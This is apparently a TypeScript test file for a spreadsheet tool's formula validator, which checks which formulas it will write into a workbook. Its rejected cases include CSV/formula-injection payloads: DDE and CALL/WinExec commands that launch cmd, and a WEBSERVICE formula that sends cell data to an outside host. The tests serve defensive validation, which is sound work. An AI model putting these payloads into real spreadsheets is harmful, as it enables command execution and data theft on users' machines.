/** Which formulas may be written into a file. */
import { describe, expect, test } from 'vitest';
import { FUNCTIONS } from '../../core/sheet/formula/functions.ts';
import { findUnwritable, MAX_WRITTEN_FORMULA } from '../../core/sheet/formula/writable.ts';
import { criterionFormula, likeLastFormula } from '../../core/template/derived.ts';

/** The workbook of these specs: a sheet beside, two names. */
const KNOWN = new Set(['Biểu 1', 'T2', 'Kết_quả']);
const unwritable = (formula: string): string | undefined =>
  findUnwritable(formula, (reference) => {
    if (reference.kind === 'name') return KNOWN.has(reference.text);
    return reference.sheet === undefined || KNOWN.has(reference.sheet);
  });

describe('a formula is written', () => {
  test.each([
    criterionFormula('G13:G15'),
    likeLastFormula('F5', 92.5, 'G5', 'Đạt “tốt” "ạ"'),
    '=SUM(F12:F14)+95',
    '=sum($a$1:B2, 3 , C3%)',
    "=SUM('Biểu 1'!A1:A9,Kết_quả)",
    "='Biểu 1'!A1*2",
    '= -A1^2 <> 1E3',
    '=IF(A1,,"")',
    '=IFERROR(ROUND(A1/B1,2),"–")&"; {x} [1] |cmd #"',
    "='Biểu 1'!C5+COUNT(A:C,1:3)",
    '=COUNTIFS(A1:A3,"x",B1:B3,">1")+SUMIF(A1:A3,1)+SUMIF(A1,1,B1)+COUNTBLANK(Kết_quả)',
    '=TRUE',
    '=XFD1048576',
  ])('%s', (formula) => {
    expect(unwritable(formula)).toBeUndefined();
  });

  test('with every function that we work out', () => {
    for (const [name, { least }] of FUNCTIONS)
      expect(unwritable(`=${name}(${Array.from({ length: least }, () => 'A1').join(',')})`)).toBeUndefined();
  });

  test('of a thousand terms, but not longer than anybody’s total', () => {
    const terms = '1+'.repeat((MAX_WRITTEN_FORMULA - 2) / 2);
    expect(unwritable(`=${terms}1`)).toBeUndefined();
    expect(unwritable(`=${terms}123`)).toBeDefined();
  });
});

describe('a formula is not written', () => {
  test.each([
    ['=HYPERLINK("http://x.vn","Đạt")', 'HYPERLINK'],
    ['=webservice("http://x.vn/"&A1)', 'webservice'],
    ['=1+INDIRECT("A1")', 'INDIRECT'],
    ['=TODAY()', 'TODAY'],
    ['=_xlfn.SUM(A1)', '_xlfn.SUM'],
    ['=Macro1(A1)', 'Macro1'],
    ['=CALL("kernel32","WinExec","JCJ","cmd",0)', 'CALL'],
    ["=cmd|' /C calc'!A0", '|'],
    ['=DDE("cmd";"/C calc";"x")', 'DDE'],
    ['=[1]Sheet1!A1', '[1]Sheet1!A1'],
    ["='[BHYT.xlsx]Tháng 11'!C5", '[BHYT.xlsx]Tháng 11!…'],
    ["='C:\\[x.xlsx]S'!C5", 'C:\\[x.xlsx]S!…'],
    ["='\\\\máy\\x'!C5", '\\\\máy\\x!…'],
    ['=[0]!Kết_quả', '[0]!Kết_quả'],
    ['=Khác!A1', 'Khác!…'],
    ["='Biểu 1':T2!A1", 'T2!A1'],
    ['=T1:T2!A1', 'T1:T2!A1'],
    ['=T2!A1', 'T2!A1'],
    ['=2023!A1', '2023!A1'],
    ['=Tên_lạ', 'Tên_lạ'],
    ['=XFE1', 'XFE1'],
    ['=A1048577', 'A1048577'],
    ['=Bảng[Số]', '[Số]'],
    ['=SUM({1,2})', '{'],
    ['=A1#', '#'],
    ['=@A1', '@'],
    ['=A1+#REF!', '#'],
    ['=SUM(A1;B1)', ';'],
    ['=SUM (A1)', 'SUM ('],
    ['=A1 B1', '=A1 B1'],
    ['=SUM(A1', '=SUM(A1'],
    ['=SUM()', 'SUM(…)'],
    ['=NOT(1,2)', 'NOT(…)'],
    ['=COUNTIF(5,"x")', 'COUNTIF(…)'],
    ['=COUNTIF(A1:A2+0,"x")', 'COUNTIF(…)'],
    ['=COUNTIFS(A1:A2,1,B1:B2)', 'COUNTIFS(…)'],
    ['=SUMIF(A1:A2,1,3)', 'SUMIF(…)'],
    ['=COUNTBLANK(1)', 'COUNTBLANK(…)'],
    [`=SUM(${'1,'.repeat(255)}1)`, 'SUM(…)'],
    ['=9E999', 'Infinity'],
    [`="${'x'.repeat(256)}"`, 'x'.repeat(256)],
    ['="a\nb"', '\n'],
    ['="_x0041_"', '_x0041_'],
    ['="\ud83d"', '\ud83d'],
    ['=', '='],
    ['', ''],
    ['SUM(A1)', 'SUM(A1)'],
    ['5', '5'],
    ['=(('.repeat(70) + '1', '=(('.repeat(70) + '1'],
  ])('%j', (formula, words) => {
    expect(unwritable(formula)).toBe(words);
  });
});
